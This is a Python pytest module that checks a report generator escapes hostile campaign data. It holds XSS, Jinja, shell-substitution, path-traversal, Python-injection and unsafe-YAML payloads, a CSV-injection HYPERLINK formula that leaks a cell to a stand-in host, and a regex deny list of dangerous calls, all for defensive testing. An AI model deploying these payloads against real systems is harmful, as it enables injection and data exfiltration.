"""Security: user strings are data, never markup, templates, code or paths.

One module-scoped run renders a hostile campaign — every user-supplied string of the tables,
scheme, questionnaire and campaign file carries an HTML, Jinja or shell payload, the
districts are named like paths and reserved device names, one district carries quotes and a
line of Python, and the campaign lives in a directory whose name has both kinds of quotes —
and the tests check that every page escapes the payloads, every file stays inside the report
directory, and the notebooks receive the names as data.
"""

from __future__ import annotations

import ast
import json
import re
import shutil
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import openpyxl
import pandas as pd
import pytest

from evalkit.batch import run_reports
from evalkit.filenames import WINDOWS_RESERVED
from evalkit.load import load_campaign
from evalkit.report.html import environment, index_script
from evalkit.report.layout import district_path, safe_stem
from evalkit.yamlfile import _LineLoader, load_yaml
from tests.reports_tree import snapshot
from tests.tiny import TINY, copy_tiny, edit

EVALKIT = Path(__file__).parents[1] / "evalkit"

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
JINJA = "{{7*7}}"
SHELL = "${7*7}$(touch pwned)`touch pwned`"
#: District names that are no safe file names.
TRAVERSAL, RESERVED = "../../etc", "CON"
#: A district name that would end a string literal and run code if pasted into Python source.
CODE = "x'\"\n__import__('os')._exit(7)#"
#: Payloads that contain markup, and where each is planted.
MARKUP = {
    "pilot name": SCRIPT,
    "unit": IMG,
    "standard title": "<script>std()</script>",
    "inspector": "<iframe src=javascript:alert(3)>",
    "kpi indicator": "<svg onload=alert(4)>",
    "scheme title": "<script>scheme()</script>",
    "indicator label": "<img src=y onerror=alert(5)>",
    "scheme note": "<script>note()</script>",
    "veto label": "<b onmouseover=alert(6)>否决</b>",
    "construct label": "<script>construct()</script>",
    "campaign title": "<style>body{display:none}</style>",
}
#: Planted but not shown by any page (so only checked to be absent as markup).
NOT_SHOWN = {"inspector"}


def _hostile(base: Path) -> Path:
    """The tiny campaign, every user string poisoned, in a directory named with quotes."""
    folder = base / "it's \"quoted\""
    shutil.copytree(TINY, folder)
    d = folder
    edit(d / "pilots.csv", "P1,黄浦区社区养老服务标准化试点,黄浦区民政局,黄浦区",
         f'P1,{SCRIPT},"{IMG.replace(chr(34), chr(34) * 2)}",{TRAVERSAL}')
    edit(d / "pilots.csv", "P2,徐汇区智慧停车服务标准化试点,徐汇区交通委,徐汇区", f"P2,{JINJA}{SHELL},单位,{RESERVED}")
    edit(d / "pilots.csv", "P3,黄浦区垃圾分类标准化试点,黄浦区绿化市容局,黄浦区",
         'P3,垃圾分类,绿化市容局,"' + CODE.replace('"', '""') + '"')
    edit(d / "standards.csv", "养老机构服务规范", MARKUP["standard title"])
    edit(d / "inspections.csv", "P1,I1,DB31/T 1000-2016,张三", f"P1,I1,DB31/T 1000-2016,{MARKUP['inspector']}")
    kpi = MARKUP["kpi indicator"]
    (d / "kpis.csv").write_text((d / "kpis.csv").read_text(encoding="utf-8")
                                + f"P1,{kpi},baseline,1,higher\nP1,{kpi},final,2,higher\n", encoding="utf-8")
    edit(d / "scheme.yaml", "title: 标准化试点验收评估计分表（测试）", f"title: '{MARKUP['scheme title']}'")
    edit(d / "scheme.yaml", "label: 标准体系\n", f"label: '{MARKUP['indicator label']}'\n")
    edit(d / "scheme.yaml", "metric: inspection.conformity_rate}",
         f"metric: inspection.conformity_rate, note: '{MARKUP['scheme note']}'}}")
    edit(d / "scheme.yaml", "label: 试点期间发生重大质量安全事故", f"label: '{MARKUP['veto label']}'")
    edit(d / "questionnaire.yaml", "awareness: {label: 标准知晓}", f"awareness: {{label: '{MARKUP['construct label']}'}}")
    edit(d / "campaign.yaml", "title: 测试用小型评估活动", f"title: '{MARKUP['campaign title']} {JINJA}'")
    return d / "campaign.yaml"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    base = tmp_path_factory.mktemp("hostile")
    campaign = load_campaign(_hostile(base))
    outside = snapshot(base)
    summary = run_reports(campaign, jobs=1, progress=False)
    return campaign, summary, base, outside


class _Elements(HTMLParser):
    """Every start tag of a page with its attributes, as a browser's tokenizer sees them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))

    @classmethod
    def of(cls, html: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
        parser = cls()
        parser.feed(html)
        parser.close()
        return parser.found


def _pages(campaign) -> dict[str, str]:
    return {p.relative_to(campaign.reports_dir).as_posix(): p.read_text(encoding="utf-8")
            for p in campaign.reports_dir.rglob("*.html")}


def test_the_hostile_campaign_renders_completely(hostile):
    campaign, summary, _, _ = hostile
    assert summary.exit_code == 0 and summary.failed == (), summary.failed
    assert len(summary.rendered) == 2 + 3 + 3  # index and quality page, three pilots, three districts


def test_every_user_string_is_escaped_in_every_page(hostile):
    campaign, _, _, _ = hostile
    pages = _pages(campaign)
    everything = "\n".join(pages.values())
    for where, payload in MARKUP.items():
        escaped = payload.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&#34;")
        if where not in NOT_SHOWN:
            assert escaped.replace("&#34;", "") in everything.replace("&#34;", ""), f"{where} is shown escaped"
        for page, html in pages.items():
            assert payload not in html, f"{where} reaches {page} as markup"
    for page, html in pages.items():
        if page == "index.html":  # its one script is evalkit's own (search and sort), holding no user text
            script = re.search(r"<script>\n(.*?)</script>", html, flags=re.S)
            assert script.group(1) == str(index_script()) + "\n"
            assert html.count("<script") == 1
            html = html.replace(script.group(0), "")
        elements = _Elements.of(html)
        assert not {"script", "iframe", "object", "embed", "svg", "b"} & {tag for tag, _ in elements}, page
        assert [tag for tag, _ in elements].count("style") == 1, page  # the inlined stylesheet only
        for tag, attrs in elements:
            assert not [name for name, _ in attrs if name.lower().startswith("on")], (page, tag, attrs)
            values = dict(attrs)
            if tag == "img":
                assert (values.get("src") or "").startswith("data:image/"), (page, values)
            if tag == "a":
                assert not (values.get("href") or "").lower().lstrip().startswith("javascript:"), (page, values)
    assert pages["index.html"].count("&lt;script&gt;alert(1)&lt;/script&gt;") >= 1


def test_templates_and_shells_are_not_evaluated(hostile):
    campaign, _, base, outside = hostile
    pages = _pages(campaign)
    assert JINJA in pages["index.html"] and "${7*7}$(touch pwned)`touch pwned`" in pages["index.html"]
    assert JINJA in pages["pilots/P2.html"]
    assert not list(base.rglob("pwned")) and not list(Path.cwd().glob("pwned"))
    assert environment().autoescape is True


def test_files_stay_inside_the_report_directory_with_safe_names(hostile):
    campaign, _, base, outside = hostile
    reports = campaign.reports_dir.resolve()
    for path in reports.rglob("*"):
        assert path.resolve().is_relative_to(reports), path
        stem = path.name.split(".")[0]
        assert stem.upper() not in WINDOWS_RESERVED, path
        assert not re.search(r'[\x00-\x1f<>:"\\|?*]', path.name), path
    districts = sorted(p.name for p in (reports / "districts").glob("*.html"))
    assert districts == sorted(Path(district_path(name)).name for name in (TRAVERSAL, RESERVED, CODE))
    assert safe_stem(TRAVERSAL).startswith("_.._etc-") and safe_stem(RESERVED).startswith("_CON-")
    for name in ("NUL", "nul.txt", "COM1", "lpt9.x", "..", ".", "a/b", "C:\\x", " ", "\x00"):
        stem = safe_stem(name)
        assert stem not in ("", ".", "..") and "/" not in stem and "\\" not in stem and "\x00" not in stem
        assert stem.split(".")[0].upper() not in WINDOWS_RESERVED, name
    after = snapshot(base)
    new = {name for name in set(after) - set(outside) if not name.startswith("it's \"quoted\"/reports")}
    assert new == set(), "nothing is written outside the report directory (no cache, no score pickle)"
    manifest = json.loads((reports / "manifest.json").read_text(encoding="utf-8"))
    for entry in manifest["reports"]:
        assert ".." not in Path(entry["path"]).parts and not Path(entry["path"]).is_absolute()


def test_parameters_reach_the_notebooks_as_data(hostile):
    """A district name with quotes and a line of code, and a campaign path with both quotes, arrive verbatim."""
    campaign, _, _, _ = hostile
    audit = campaign.reports_dir / Path(district_path(CODE)).with_suffix(".ipynb")
    notebook = nbformat.read(audit, as_version=4)
    injected = next(c for c in notebook.cells if "injected-parameters" in c.metadata.get("tags", []))
    values = {node.targets[0].id: ast.literal_eval(node.value)
              for node in ast.parse(injected.source).body if isinstance(node, ast.Assign)}
    assert values == {"campaign": str(campaign.path), "district": CODE}
    assert "'" in values["campaign"] and '"' in values["campaign"]
    html = (campaign.reports_dir / district_path(CODE)).read_text(encoding="utf-8")
    assert "__import__(&#39;os&#39;)._exit(7)#" in html  # shown as the district's name, never run


def test_pilot_ids_cannot_name_paths(tmp_path, capsys):
    """Ids are ``[A-Za-z0-9_.-]+``: no separators, so ``pilots/<id>.html`` stays in ``pilots/``."""
    from evalkit.cli import main

    for bad, reason in (("../x", "may contain only letters"), ("/etc/passwd", "may contain only letters"),
                        ("a\\b", "may contain only letters"), ("P1/../../x", "may contain only letters"),
                        ("C:x", "may contain only letters"), ("NUL", "is a device name on Windows"),
                        ("com1.x", "is a device name on Windows"), ("x" * 101, "is longer than 100")):
        folder = tmp_path / f"case{len(list(tmp_path.iterdir()))}"
        shutil.copytree(TINY, folder)
        edit(folder / "pilots.csv", "P2,徐汇区智慧", f'"{bad}",徐汇区智慧')
        assert main(["validate", str(folder / "campaign.yaml")]) == 2
        assert f"'{bad}': pilot_id {reason}" in capsys.readouterr().err


def test_yaml_is_loaded_safely(tmp_path):
    assert issubclass(_LineLoader, __import__("yaml").SafeLoader)
    for tag in ("!!python/object/apply:os.system ['touch pwned']", "!!python/name:os.system",
                "!!python/object/new:subprocess.Popen [['touch', 'pwned']]"):
        path = tmp_path / "evil.yaml"
        path.write_text(f"id: x\nversion: {tag}\n", encoding="utf-8")
        data, problems = load_yaml(path)
        assert data is None and "is not allowed: evalkit reads plain data only" in problems[0].message
        assert problems[0].message.startswith("YAML tag !!python/")
    assert not list(tmp_path.glob("pwned")) and not Path("pwned").exists()


def test_spreadsheet_cells_from_user_strings_are_never_formulas(hostile):
    """scores.xlsx writes every text (names, labels) as a string cell: no formula runs when opened."""
    campaign, _, _, _ = hostile
    book = openpyxl.load_workbook(campaign.reports_dir / "scores.xlsx")
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)


def test_no_shell_and_no_dynamic_code_in_evalkit():
    """Subprocesses get argument lists (never ``shell=True``); nothing evaluates strings as code."""
    offenders = []
    for path in sorted(EVALKIT.rglob("*.py")):
        text = path.read_text(encoding="utf-8")
        for pattern in (r"shell\s*=\s*True", r"\bos\.system\(", r"\bos\.popen\(", r"(?<![\w.])eval\(",
                        r"(?<![\w.])exec\(", r"yaml\.load\((?![^)]*Loader=_LineLoader)", r"yaml\.unsafe_load",
                        r"from_string\("):
            offenders += [f"{path.relative_to(EVALKIT.parent)}: {pattern}" for _ in re.finditer(pattern, text)]
    assert offenders == []


def test_csv_cells_that_would_run_as_formulas_are_written_as_text(tmp_path):
    """OWASP "CSV Injection": a name starting with = + - @ is prefixed with ' in scores.csv, so Excel
    shows it instead of running it; scores.xlsx keeps it unchanged as a string cell."""
    import csv
    import io

    from evalkit.outputs import scores_csv, scores_xlsx
    from evalkit.scoring import score

    payload = '=HYPERLINK("http://example.invalid/?"&A1,"点击")'
    campaign_file = copy_tiny(tmp_path / "campaign")
    pilots = campaign_file.parent / "pilots.csv"
    lines = pilots.read_text(encoding="utf-8").splitlines(keepends=True)
    first = lines[1].split(",")
    first[1] = '"' + payload.replace('"', '""') + '"'
    lines[1] = ",".join(first)
    pilots.write_text("".join(lines), encoding="utf-8")
    scores = score(load_campaign(campaign_file))
    rows = list(csv.DictReader(io.StringIO(scores_csv(scores).decode("utf-8-sig"))))
    assert rows[0]["name"] == "'" + payload
    assert all(not row["name"].startswith(("=", "+", "-", "@")) for row in rows)
    assert [row["name"] for row in rows[1:]] == scores.table["name"].tolist()[1:]  # others as they are
    book = openpyxl.load_workbook(io.BytesIO(scores_xlsx(scores)))
    assert book.worksheets[0]["B2"].value == payload and book.worksheets[0]["B2"].data_type == "s"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_escaped_in_any_row(start):
    """Every cell that starts like a formula gets its ``'``, in any row; a formula sign after a
    line break inside a cell is not a start (the cell is left as it is)."""
    from evalkit.outputs import _csv_text

    cells = pd.Series(["上海", None, f"{start}1+1", "正常"], dtype=object)
    assert _csv_text(cells).tolist() == ["上海", None, f"'{start}1+1", "正常"]
    inside = pd.Series(["上海", f"多行\n{start}不是开头"], dtype=object)
    assert _csv_text(inside).tolist() == inside.tolist()
    assert _csv_text(pd.concat([inside, cells])).tolist() == [*inside, "上海", None, f"'{start}1+1", "正常"]
